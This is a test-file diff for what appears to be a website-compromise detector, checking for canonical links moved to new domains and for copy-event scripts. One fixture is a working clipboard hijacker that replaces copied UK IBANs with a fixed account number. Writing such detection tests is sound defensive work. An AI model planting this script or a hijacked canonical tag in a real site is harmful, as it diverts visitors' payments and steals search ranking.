@@ -151,3 +151,17 @@ describe("the site's own files across builds", () => {
     expect(checks(verdictOf(moved, base)).filter((c) => c.startsWith("integrity/"))).toEqual([])
   })
 })
+
+describe("destinations: search engines and the clipboard", () => {
+  it("a canonical address moved to a site the page never used hands its ranking over", () => {
+    const v = verdictOf(page({ seed: 5, head: `<link rel="canonical" href="https://bakery-deals-online.example/whitby">` }))
+    expect(v.findings.find((f) => f.check === "canonical_new_domain")).toMatchObject({ severity: "high", breach: true })
+    const feed = verdictOf(page({ seed: 5, head: `<link rel="alternate" type="application/rss+xml" href="https://feeds.example-feeds.net/harbourbakery">` }))
+    expect(feed.findings.find((f) => f.check === "canonical_new_domain")).toBeUndefined()
+  })
+
+  it("a new script that rewrites what visitors copy is high", () => {
+    const clipper = `<script>document.addEventListener("copy",function(e){var t=String(window.getSelection());if(/^GB\\d{2}/.test(t)){e.clipboardData.setData("text/plain","GB33BUKB20201555555555");e.preventDefault()}})</script>`
+    expect(verdictOf(page({ seed: 5, body: clipper })).findings.find((f) => f.check === "script_copy_hijack")).toMatchObject({ severity: "high", breach: true })
+  })
+})
